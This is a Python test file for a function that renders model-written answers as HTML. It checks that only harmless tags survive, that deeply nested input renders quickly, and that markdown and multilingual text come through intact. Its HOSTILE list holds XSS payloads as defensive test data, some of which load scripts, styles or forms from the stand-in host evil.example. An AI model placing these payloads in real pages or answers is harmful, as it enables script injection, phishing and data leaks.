"""An answer as HTML: what a model writes, which may be anybody's words, does nothing in a browser."""

import re
from time import monotonic

import pytest

from app.pages.answer_html import answer_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=key><button>Sign in</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "[click](javascript:alert(1))",
    "[click](https://evil.example 'title')",
    "<https://evil.example>",
    "![picture](https://evil.example/x.png)",
    "![picture](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a]: javascript:alert(1)\n\n[a]",
    "`<script>alert(1)</script>`",
    "```<script>alert(1)</script>\nx\n```",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "<p id='query' class='left' style='position:fixed' data-n='1' hidden>x</p>",
]
TAG = re.compile(r"<(/?[a-z0-9]+)((?:\s[^>]*)?)>")
HARMLESS = {
    "p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "h1", "h2", "h3", "h4", "h5", "h6",
    "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
PATIENCE_SECONDS = 10.0
"""Far more than any of these takes; what grows with the square of its length would take minutes."""


@pytest.mark.parametrize("answer", HOSTILE)
def test_nothing_that_a_model_writes_acts_or_loads(answer: str) -> None:
    html = answer_html(f"Before {answer}\n\n{answer}\n\nafter.")
    for name, attributes in TAG.findall(html):
        assert name.lstrip("/") in HARMLESS
        assert re.fullmatch(r'(\sstart="\d+")?', attributes)
    assert html.count("<") == len(TAG.findall(html)), "each is a tag that is known, or written as text"
    assert "Before" in html
    assert "after." in html


@pytest.mark.parametrize("answer", [
    ">" * 20_000, "[" * 20_000, "*" * 20_001, "`" * 20_001, "- " * 5_000, "| a " * 5_000 + "\n" + "|-" * 5_000,
    "<div>" * 20_000, "&" * 50_000, "![" * 20_000 + "](" * 20_000, "a_" * 20_000,
    "\n".join(" " * n + "- x" for n in range(500)),
], ids=lambda answer: repr(answer[:8]))  # fmt: skip
def test_no_nesting_takes_long(answer: str) -> None:
    started = monotonic()
    answer_html(answer)
    assert monotonic() - started < PATIENCE_SECONDS


def test_markdown_is_shown_as_what_it_means() -> None:
    html = answer_html(
        "# Prices\n\nA **berth** costs *more*, ~~less~~ `x < y` [1].\n\n"
        "| Boat | Price |\n|---|--:|\n| Dinghy | 5 |\n\n3. third\n4. fourth\n\n> quoted\n\n"
        "```python\nif a < b:\n    pass\n```"
    )
    for part in (
        "<h1>Prices</h1>", "<strong>berth</strong>", "<em>more</em>", "<s>less</s>", "<code>x &lt; y</code>", "[1].",
        "<th>Boat</th>", "<td>5</td>", '<ol start="3">', "<blockquote>",
        "<pre><code>if a &lt; b:\n    pass\n</code></pre>",
    ):  # fmt: skip
        assert part in html


def test_text_of_every_writing_comes_through_whole() -> None:
    for text in (
        "מחיר העגינה הוא 5 [1].",
        "كلفة الرسو خمسة [1].",
        "停泊费为五元 [1]。",
        "naïve 🙂 [1]",
        "zero\u200dwidth",
    ):
        assert answer_html(text) == f"<p>{text}</p>\n"
    assert answer_html("") == ""
